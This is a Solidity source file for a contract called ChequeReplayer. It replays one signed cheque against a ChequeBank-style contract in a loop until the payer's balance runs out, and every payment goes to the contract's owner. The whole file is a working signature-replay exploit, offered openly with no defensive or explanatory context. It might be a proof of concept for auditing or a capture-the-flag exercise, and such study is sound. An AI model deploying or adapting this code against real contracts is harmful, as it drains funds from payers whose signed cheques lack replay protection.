// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IChequeBank {
    function cash(address payer, address payee, uint256 amount, bytes calldata signature) external;

    function balanceOf(address account) external view returns (uint256);
}

/// @title ChequeReplayer
/// @notice Cashes one signed ChequeBank cheque over and over, for as long as the payer's account
///         covers it; the payee of the cheque (the owner EOA) receives every payment.
contract ChequeReplayer {
    address public immutable owner;

    event Replayed(address indexed bank, address indexed payer, uint256 times, uint256 total);

    constructor() {
        owner = msg.sender;
    }

    function replay(IChequeBank bank, address payer, uint256 amount, bytes calldata signature) external {
        require(msg.sender == owner, "ChequeReplayer: not owner");
        uint256 times;
        while (bank.balanceOf(payer) >= amount) {
            bank.cash(payer, owner, amount, signature);
            times += 1;
        }
        emit Replayed(address(bank), payer, times, times * amount);
    }
}
